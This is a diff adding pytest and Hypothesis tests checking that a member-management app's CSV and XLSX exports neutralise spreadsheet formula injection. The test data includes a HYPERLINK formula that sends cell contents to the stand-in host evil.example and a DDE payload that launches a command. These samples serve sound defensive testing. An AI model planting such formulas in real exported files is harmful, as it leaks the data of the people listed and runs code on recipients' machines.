@@ -1,0 +1,61 @@
+"""The member export writes text cells that no spreadsheet runs as a formula."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from memberdesk.services.io.member_io import export_members
+from memberdesk.services.members.enrolment import MemberForm, enrol
+from tests.conftest import Shop
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+PAYLOADS = {
+    "address": '=HYPERLINK("http://evil.example/?d="&A2,"查看地址")',
+    "occupation": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "email": "+1+1",
+}
+
+
+def _export(shop: Shop, path: Path) -> list[list[str]]:
+    export_members(shop.db, shop.supervisor, path)
+    if path.suffix == ".csv":
+        with path.open(encoding="utf-8-sig", newline="") as f:
+            return list(csv.reader(f))
+    book = load_workbook(path)
+    sheet = book.active
+    assert sheet is not None
+    for row in sheet.iter_rows():
+        for cell in row:
+            assert cell.value is None or cell.data_type == "s", (cell.coordinate, cell.value)
+    return [["" if v is None else str(v) for v in r] for r in sheet.iter_rows(values_only=True)]
+
+
+def test_formula_payloads_are_neutralised_in_csv_and_xlsx(shop: Shop, tmp_path: Path) -> None:
+    enrol(shop.db, shop.clerk, MemberForm(phone="+4915112345678", name="-张伟", **PAYLOADS))
+    for name in ("m.csv", "m.xlsx"):
+        rows = _export(shop, tmp_path / name)
+        cells = [value for row in rows for value in row]
+        assert not [c for c in cells if c.startswith(TRIGGERS)]
+        assert "'" + PAYLOADS["address"] in cells and "'+4915112345678" in cells and "'-张伟" in cells
+
+
+@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(address=st.text(max_size=60), notes=st.text(max_size=30))
+def test_no_exported_cell_ever_starts_a_formula(shop: Shop, tmp_path: Path, address: str, notes: str) -> None:
+    from sqlalchemy import delete
+
+    from memberdesk.store.models import Member, MemberKey, MemberStats
+
+    with shop.db.write() as s:
+        for table in (MemberKey, MemberStats, Member):
+            s.execute(delete(table))
+    enrol(shop.db, shop.clerk, MemberForm(phone="13812345678", name="张伟", address=address.strip()[:200]))
+    for name in ("p.csv", "p.xlsx"):
+        for row in _export(shop, tmp_path / name):
+            for value in row:
+                assert not value.startswith(TRIGGERS), value
